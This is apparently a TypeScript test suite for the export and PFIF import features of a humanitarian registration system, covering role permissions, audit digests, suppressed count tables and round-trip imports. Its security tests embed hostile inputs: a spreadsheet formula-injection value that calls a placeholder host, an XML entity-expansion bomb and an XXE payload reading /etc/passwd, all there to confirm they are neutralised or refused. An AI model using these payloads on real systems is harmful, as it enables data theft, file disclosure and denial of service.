/**
 * Exports on a generated operation (the demo scenario, a few hundred people: convoys, arrivals,
 * people missing in transit): what each role may take, the audit entry with the file's digest,
 * count tables with their HXL row and small-cell suppression, formula injection neutralised in
 * CSV and XLSX, and PFIF 1.4 — valid against the schema, only people who consented to tracing,
 * and read back by the import into another operation so that its export gives the same records.
 */
import { after, before, describe, test } from 'node:test';
import assert from 'node:assert/strict';
import { createHash, randomBytes } from 'node:crypto';
import ExcelJS from 'exceljs';
import { parse } from 'csv-parse/sync';
import { loadDemo } from '../src/demo/load.js';
import { findUserByUsername } from '../src/db/queries/users.js';
import { AppError } from '../src/domain/errors.js';
import { permissionsOf, type Role } from '../src/domain/policy.js';
import type { ExportInput } from '../src/domain/schemas/exports.js';
import { ensureFirstAdmin } from '../src/services/accounts/auth.js';
import type { Ctx } from '../src/services/context.js';
import { getCounts } from '../src/services/counts/counts.js';
import { exportList, openExportWhy } from '../src/services/exports/exports.js';
import { importPfif } from '../src/services/exports/pfif-import.js';
import { readPfif } from '../src/services/exports/pfif-xml.js';
import { KeyRing } from '../src/services/keys/keyring.js';
import { createOperation, createSite } from '../src/services/operations/operations.js';
import { registerHousehold } from '../src/services/persons/persons.js';
import { dialects, type TestDb } from './support/db.js';
import { pfifSchemaErrors } from './support/pfif-schema.js';

const purpose = { purpose: 'weekly partner update', recipient: 'protection cluster' };

function rowsOf(bytes: Buffer): string[][] {
  return parse(bytes.toString('utf8'), { bom: true, relax_column_count: true }) as string[][];
}

for (const dialect of dialects) {
  describe(`exports (${dialect.name})`, () => {
    let db: TestDb;
    const keys = new KeyRing(randomBytes(32));
    let adminId: string;
    let operationId: string;
    const now = new Date('2016-12-23T12:00:00.000Z');

    const ctxAs = (role: Role, opId = operationId): Ctx => ({
      db: db.kysely,
      keys,
      now,
      roles: [role],
      permissions: permissionsOf([role]),
      actor: { kind: 'user', id: adminId, name: 'admin', isAdmin: false },
      operationId: opId,
    });
    const run = <T>(role: Role, f: (ctx: Ctx) => Promise<T>, opId = operationId) =>
      db.kysely.transaction().execute((trx) => f({ ...ctxAs(role, opId), db: trx }));
    const exportAs = (role: Role, input: Omit<ExportInput, 'purpose' | 'recipient'>) =>
      run(role, (ctx) => exportList(ctx, { ...purpose, ...input }));
    const refusal = async (p: Promise<unknown>) => {
      const err = await p.then(
        () => undefined,
        (e: unknown) => e,
      );
      assert.ok(err instanceof AppError, `expected a refusal, got ${String(err)}`);
      return err;
    };

    before(async () => {
      db = await dialect.open();
      await db.kysely.transaction().execute((trx) => ensureFirstAdmin(trx, new Date()));
      adminId = (await findUserByUsername(db.kysely, 'admin'))!.id;
      operationId = (await loadDemo(db, keys, { adminId, people: 400, seed: 7 })).operationId;
    });
    after(async () => db?.close());

    test('a people list holds every person, category only for roles that may read it, and is audited with its digest', async () => {
      const file = await exportAs('coordinator', { what: 'people', format: 'csv' });
      const [header, ...rows] = rowsOf(file.bytes);
      const stored = await db.kysely
        .selectFrom('persons')
        .select((eb) => eb.fn.countAll<number>().as('n'))
        .where('operation_id', '=', operationId)
        .where('merged_into', 'is', null)
        .executeTakeFirstOrThrow();
      assert.equal(rows.length, Number(stored.n));
      assert.equal(file.rows, rows.length);
      assert.ok(header!.includes('category') && header!.includes('given_name_lat'));
      const entry = await db.kysely
        .selectFrom('audit_log')
        .select(['action', 'details'])
        .where('operation_id', '=', operationId)
        .where('action', '=', 'export')
        .orderBy('n', 'desc')
        .executeTakeFirstOrThrow();
      const details = (typeof entry.details === 'string' ? JSON.parse(entry.details) : entry.details) as Record<string, unknown>;
      assert.equal(details.sha256, createHash('sha256').update(file.bytes).digest('hex'));
      assert.equal(details.rows, rows.length);
      // Purpose and recipient are typed text: sealed in the entry, opened with the operation's keys.
      assert.equal(JSON.stringify(details).includes(purpose.recipient), false, 'no recipient in clear');
      const why = openExportWhy(await keys.forOperation(db.kysely, operationId), details as Parameters<typeof openExportWhy>[1]);
      assert.deepEqual(why, purpose);
      assert.equal((details.persons as string[]).length, rows.length);

      const registrar = rowsOf((await exportAs('registrar', { what: 'people', format: 'csv' })).bytes);
      assert.ok(!registrar[0]!.includes('category'), 'a registrar may not read category');
    });

    test('a viewer takes count tables only: no list of people, and no names in what they take', async () => {
      for (const what of ['people', 'manifests', 'arrivals', 'missing'] as const)
        assert.equal((await refusal(exportAs('viewer', { what, format: 'csv' }))).code, 'auth.forbidden');
      const sample = (await exportAs('coordinator', { what: 'people', format: 'csv' })).bytes.toString('utf8').split('\r\n')[1]!.split(',');
      const counts = await exportAs('viewer', { what: 'counts', format: 'xlsx' });
      const text = (await exportAs('viewer', { what: 'counts', format: 'csv' })).bytes.toString('utf8');
      for (const name of sample.slice(4, 12).filter((s) => s.length > 3))
        assert.ok(!text.includes(name), `${name} is in a viewer's export`);
      assert.ok(counts.bytes.length > 0);
    });

    test('HXL count tables: hashtag row, last day equals the live count, small cells suppressed below coordinator level', async () => {
      const full = rowsOf((await exportAs('coordinator', { what: 'counts', format: 'hxl' })).bytes);
      const [header, tags, ...rows] = full;
      assert.equal(tags![0], '#date');
      assert.ok(
        tags!.includes('#affected+f+children+age0_4') && tags!.includes('#affected+m+elderly+age60plus') && tags!.includes('#loc+name'),
      );
      assert.ok(tags!.includes('#group+category'), 'a coordinator sees the category column');
      const total = header!.indexOf('Total');
      const status = tags!.indexOf('#status+code');
      const lastDay = rows
        .map((r) => r[0]!)
        .sort()
        .at(-1);
      const live = await run('coordinator', (ctx) => getCounts(ctx));
      for (const metric of ['registered', 'arrived', 'missing', 'in_transit'] as const) {
        const sum = rows.filter((r) => r[0] === lastDay && r[status] === metric).reduce((n, r) => n + Number(r[total]), 0);
        assert.equal(sum, (live.totals as Record<string, number>)[metric], `${metric} on the last day`);
      }
      const viewer = rowsOf((await exportAs('viewer', { what: 'counts', format: 'hxl' })).bytes);
      assert.ok(!viewer[0]!.includes('Total'), 'no row total once cells are suppressed');
      assert.ok(!viewer[1]!.includes('#group+category'), 'no category for a viewer');
      const countCells = viewer.slice(2).flatMap((r) => r.slice(8));
      assert.ok(
        countCells.some((c) => c === ''),
        'some cells were suppressed',
      );
      assert.ok(!countCells.some((c) => c !== '' && Number(c) > 0 && Number(c) < 5), 'no cell of 1–4 people is published');
      assert.ok(
        full.slice(2).some((r) => r.slice(9, total).some((c) => Number(c) > 0 && Number(c) < 5)),
        'the coordinator sees them',
      );

      const arrivals = rowsOf((await exportAs('viewer', { what: 'arrivals', format: 'hxl' })).bytes);
      assert.ok(arrivals[1]!.includes('#reached+f+adults+age18_59'));
      assert.ok(arrivals.slice(2).every((r) => r[7] === 'arrived'));
    });

    test('lists of arrivals, missing and manifests agree with the people list and the reconciliation', async () => {
      const people = rowsOf((await exportAs('coordinator', { what: 'people', format: 'csv' })).bytes);
      const status = people[0]!.indexOf('status');
      const arrived = people.slice(1).filter((r) => r[status] === 'arrived').length;
      const arrivals = rowsOf((await exportAs('reception_officer', { what: 'arrivals', format: 'csv' })).bytes);
      assert.equal(arrivals.length - 1, arrived);
      assert.ok(arrivals.slice(1).every((r) => r[arrivals[0]!.indexOf('checked_in_at')] !== ''));
      const missing = rowsOf((await exportAs('coordinator', { what: 'missing', format: 'csv' })).bytes);
      assert.equal(missing.length - 1, people.slice(1).filter((r) => r[status] === 'missing').length);
      assert.ok(missing.length > 1, 'the scenario has people missing in transit');
      const manifests = rowsOf((await exportAs('convoy_officer', { what: 'manifests', format: 'csv' })).bytes);
      const entries = await db.kysely.selectFrom('manifest_entries').select('person_id').where('operation_id', '=', operationId).execute();
      assert.equal(manifests.slice(1).filter((r) => r[5] !== '').length, entries.length);
      assert.equal((await refusal(exportAs('registrar', { what: 'manifests', format: 'csv' }))).code, 'auth.forbidden');
    });

    test('formats and filters that do not fit are refused with their codes, and nothing is audited', async () => {
      const before = await db.kysely
        .selectFrom('audit_log')
        .select((eb) => eb.fn.countAll<number>().as('n'))
        .executeTakeFirstOrThrow();
      assert.equal((await refusal(exportAs('coordinator', { what: 'people', format: 'hxl' }))).code, 'export.format_unsupported');
      assert.equal((await refusal(exportAs('coordinator', { what: 'counts', format: 'pfif' }))).code, 'export.format_unsupported');
      assert.equal(
        (await refusal(exportAs('coordinator', { what: 'counts', format: 'csv', convoyId: 'c1' }))).code,
        'export.filter_unsupported',
      );
      assert.equal((await refusal(exportAs('coordinator', { what: 'people', format: 'csv', siteId: 'nowhere' }))).code, 'site.not_found');
      const afterwards = await db.kysely
        .selectFrom('audit_log')
        .select((eb) => eb.fn.countAll<number>().as('n'))
        .executeTakeFirstOrThrow();
      assert.equal(Number(afterwards.n), Number(before.n));
    });

    test('a cell that would run as a formula is written as text in CSV and XLSX', async () => {
      const site = (await db.kysely.selectFrom('sites').select('id').where('operation_id', '=', operationId).executeTakeFirstOrThrow()).id;
      await run('registrar', (ctx) =>
        registerHousehold(ctx, {
          siteId: site,
          members: [
            {
              names: { lat: { given: '=HYPERLINK("http://x.invalid/?"&A1)', family: '+Sum' } },
              sex: 'female',
              relationship: 'head',
              vulnerabilities: [],
              consent: { tracing: false, disclosure: false },
              origin: '@cmd',
            },
          ],
        }),
      );
      const csv = rowsOf((await exportAs('coordinator', { what: 'people', format: 'csv' })).bytes);
      const row = csv.find((r) => r.some((c) => c.includes('HYPERLINK')))!;
      assert.ok(row.includes(`'=HYPERLINK("http://x.invalid/?"&A1)`) && row.includes("'+Sum") && row.includes("'@cmd"));
      const book = new ExcelJS.Workbook();
      await book.xlsx.load((await exportAs('coordinator', { what: 'people', format: 'xlsx' })).bytes as never);
      const values: unknown[] = [];
      book.worksheets[0]!.eachRow((r) => r.eachCell((c) => values.push(c.value)));
      assert.ok(values.includes(`'=HYPERLINK("http://x.invalid/?"&A1)`));
      assert.ok(!values.some((v) => typeof v === 'object' && v !== null && 'formula' in v), 'no cell is a formula');
    });

    test('PFIF 1.4: valid against the schema, only people who consented, and import(export(x)) gives x back', async () => {
      const file = await exportAs('tracing_officer', { what: 'people', format: 'pfif' });
      assert.deepEqual(await pfifSchemaErrors(file.bytes), []);
      const doc = readPfif(file.bytes);
      const consenting = await db.kysely
        .selectFrom('persons')
        .select('id')
        .where('operation_id', '=', operationId)
        .where('merged_into', 'is', null)
        .where('consent_tracing', '=', true)
        .execute();
      assert.ok(consenting.length > 0 && consenting.length < file.rows + 1000);
      assert.deepEqual(doc.persons.map((p) => p.person_record_id.split('/')[1]).sort(), consenting.map((r) => r.id).sort());
      assert.ok(!file.bytes.toString('utf8').includes('HYPERLINK'), 'the person without consent does not leave');
      assert.ok(
        doc.persons.some((p) => p.notes.some((n) => n.status === 'believed_alive')),
        'arrivals leave as status notes',
      );

      // Into another operation, as registrations; its export is the same records.
      const other = await run('admin', async (ctx) => {
        const op = await createOperation(
          { ...ctx, actor: { ...ctx.actor, isAdmin: true } },
          { code: 'pfif-copy', nameEn: 'Copy', status: 'planning', timeZone: 'UTC' },
        );
        return op.id;
      });
      await run('coordinator', (ctx) => createSite(ctx, { id: 'camp', kind: 'camp', nameEn: 'Camp' }), other);
      const r = await run('registrar', (ctx) => importPfif(ctx, file.bytes, { into: 'registrations', siteId: 'camp' }), other);
      assert.equal(r.created, doc.persons.length);
      const again = await exportAs('coordinator', { what: 'people', format: 'pfif' }).then(() =>
        run('tracing_officer', (ctx) => exportList(ctx, { ...purpose, what: 'people', format: 'pfif' }), other),
      );
      assert.deepEqual(await pfifSchemaErrors(again.bytes), []);
      const strip = (persons: ReturnType<typeof readPfif>['persons']) =>
        persons
          .map(({ entry_date: _e, notes, ...p }) => ({ ...p, notes: notes.map(({ entry_date: _n, ...n }) => n) }))
          .sort((a, b) => (a.person_record_id < b.person_record_id ? -1 : 1));
      assert.deepEqual(strip(readPfif(again.bytes).persons), strip(doc.persons));

      // The same document again creates nothing; nor does it in the operation it came from.
      assert.equal(
        (await run('registrar', (ctx) => importPfif(ctx, file.bytes, { into: 'registrations', siteId: 'camp' }), other)).created,
        0,
      );
      const site = (await db.kysely.selectFrom('sites').select('id').where('operation_id', '=', operationId).executeTakeFirstOrThrow()).id;
      assert.equal((await run('registrar', (ctx) => importPfif(ctx, file.bytes, { into: 'registrations', siteId: site }))).created, 0);
    });

    test('PFIF import into tracing requests, and bad documents refused with nothing written', async () => {
      const xml = (body: string) =>
        `<?xml version="1.0" encoding="UTF-8"?>\n<pfif:pfif xmlns:pfif="http://zesty.ca/pfif/1.4">${body}</pfif:pfif>`;
      const person = (id: string, name: string) =>
        `<pfif:person><pfif:person_record_id>example.org/${id}</pfif:person_record_id><pfif:author_name>Enquirer One</pfif:author_name>` +
        `<pfif:source_date>2016-12-20T08:00:00Z</pfif:source_date><pfif:full_name>${name}</pfif:full_name><pfif:sex>male</pfif:sex><pfif:age>30-40</pfif:age></pfif:person>`;
      const count = async () =>
        Number(
          (
            await db.kysely
              .selectFrom('tracing_requests')
              .select((eb) => eb.fn.countAll<number>().as('n'))
              .where('operation_id', '=', operationId)
              .executeTakeFirstOrThrow()
          ).n,
        );
      const before = await count();
      const good = xml(
        person('p1', 'Sami Omar Test') +
          `<pfif:note><pfif:note_record_id>example.org/n1</pfif:note_record_id><pfif:person_record_id>example.org/p1</pfif:person_record_id><pfif:author_name>Enquirer One</pfif:author_name><pfif:source_date>2016-12-20T09:00:00Z</pfif:source_date><pfif:status>information_sought</pfif:status><pfif:last_known_location>Bustan al-Qasr</pfif:last_known_location><pfif:text>Looking for my brother.</pfif:text></pfif:note>`,
      );
      assert.deepEqual(await pfifSchemaErrors(good), []);
      const r = await run('tracing_officer', (ctx) => importPfif(ctx, good, { into: 'tracing_requests' }));
      assert.deepEqual([r.created, r.notes], [1, 1]);
      assert.equal(await count(), before + 1);

      const bomb =
        `<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;">]>` +
        xml(person('p2', '&lol2;'));
      assert.equal(
        (await refusal(run('tracing_officer', (ctx) => importPfif(ctx, bomb, { into: 'tracing_requests' })))).code,
        'pfif.entities_refused',
      );
      const external = `<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>` + xml(person('p3', '&e;'));
      assert.equal(
        (await refusal(run('tracing_officer', (ctx) => importPfif(ctx, external, { into: 'tracing_requests' })))).code,
        'pfif.entities_refused',
      );
      const truncated = good.slice(0, good.length - 40);
      const t = await refusal(run('tracing_officer', (ctx) => importPfif(ctx, truncated, { into: 'tracing_requests' })));
      assert.equal(t.code, 'pfif.malformed');
      const nameless = xml(person('p4', 'Someone') + person('p5', ''));
      const n = await refusal(run('tracing_officer', (ctx) => importPfif(ctx, nameless, { into: 'tracing_requests' })));
      assert.equal(n.code, 'pfif.invalid_record');
      assert.deepEqual(
        (n.details as { fields: { path: string }[] }).fields.map((f) => f.path),
        ['persons.1.full_name'],
      );
      assert.equal((await refusal(run('registrar', (ctx) => importPfif(ctx, good, { into: 'tracing_requests' })))).code, 'auth.forbidden');
      assert.equal(await count(), before + 1, 'nothing of a refused document was written');
    });
  });
}
